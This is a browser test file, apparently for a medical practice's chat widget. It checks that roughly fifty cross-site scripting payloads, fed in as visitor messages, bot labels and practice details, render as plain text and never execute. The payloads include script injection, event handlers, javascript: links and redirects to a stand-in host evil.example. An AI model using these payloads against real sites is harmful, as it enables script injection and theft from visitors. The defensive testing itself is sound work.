import json

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

CALL = "window.hurt=1"
PAYLOADS = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<style>@import 'javascript:{CALL}';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"\"><script>{CALL}</script>",
    f"'-({CALL})-'",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"[press](javascript:{CALL})",
    f"[press](JaVaScRiPt:{CALL})",
    f"[press](java\tscript:{CALL})",
    f"[press](&#106;avascript:{CALL})",
    f"[press](\x01javascript:{CALL})".replace("\x01", "%01"),
    f"[press](vbscript:{CALL})",
    f"[press](data:text/html,<script>{CALL}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](blob:https://evil.example/x)",
    "[press](file:///etc/passwd)",
    f"[<img src=x onerror={CALL}>](https://example.org)",
    f"**<img src=x onerror={CALL}>**",
    f"- <img src=x onerror={CALL}>",
    f"1. <svg onload={CALL}>",
    f"![x](javascript:{CALL})",
    f"[a](https://example.org \"onmouseover={CALL}\")",
    f"[a](https://example.org\"onmouseover={CALL})",
    f"[[nested](javascript:{CALL})](https://example.org)",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<template><script>{CALL}</script></template>",
    f"<slot onslotchange={CALL}></slot>",
    "<instep-chat data-api=//evil.example></instep-chat>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<button popovertarget=x onclick={CALL}>x</button>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"\u202e<script>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
]  # fmt: skip
ALLOWED = {"DIV", "SPAN", "P", "BR", "UL", "OL", "LI", "STRONG", "A", "svg", "path"}


def check_unhurt(chat):
    page = chat.page
    for link in page.locator("instep-chat .log a").all():
        assert link.get_attribute("href").startswith(("https://example.org", "tel:", "http://localhost"))
    assert set(chat.log.evaluate("log => [...log.querySelectorAll('*')].map(one => one.tagName)")) <= ALLOWED
    assert page.evaluate("window.hurt") is None
    assert len(page.frames) == 1


def test_no_hostile_text_runs_as_the_visitors_own_or_as_the_bots(chat):
    for payload in PAYLOADS:
        before = chat.bubbles.count()
        chat.say(payload)
        chat.answers(before + 1)
        # A visitor's own words are shown exactly as they were written.
        assert chat.log.locator(".visitor .plain").last.text_content() == payload
    check_unhurt(chat)
    chat.page.reload()
    expect(chat.bubbles).to_have_count(2 + 2 * len(PAYLOADS))
    check_unhurt(chat)


def test_hostile_labels_of_choices_and_kinds_are_plain_text(chat):
    events = [
        {"seq": 100 + place, "author": "bot", "text": "x", "at": "", "kind": f'text" onload="{CALL}',
         "many": bool(place % 2), "choices": [{"id": payload, "label": payload}], "key": "", "open": True}
        for place, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    frames = "".join(f"event: message\ndata: {json.dumps(event)}\n\n" for event in events) + "event: idle\ndata: {}\n\n"
    chat.page.route(
        "**/events*", lambda route: route.fulfill(body=frames, headers={"Content-Type": "text/event-stream"})
    )
    before = chat.bubbles.count()
    chat.say("go")
    expect(chat.bubbles).to_have_count(before + 1 + len(PAYLOADS))
    expect(chat.choices).to_contain_text(PAYLOADS[-1])
    check_unhurt(chat)


def test_a_hostile_name_and_number_of_the_practice_are_plain_text(visitor):
    chat = visitor()
    practice = {
        "name": PAYLOADS[1],
        "phone": PAYLOADS[2],
        "phone_e164": "javascript:1",
        "emergency_number": PAYLOADS[0],
    }
    chat.page.route("**/practice", lambda route: route.fulfill(json=practice))
    chat.open()
    assert chat.panel.get_by_role("heading").text_content() == PAYLOADS[1]
    assert chat.panel.locator(".phone").get_attribute("href").startswith("tel:")
    check_unhurt(chat)
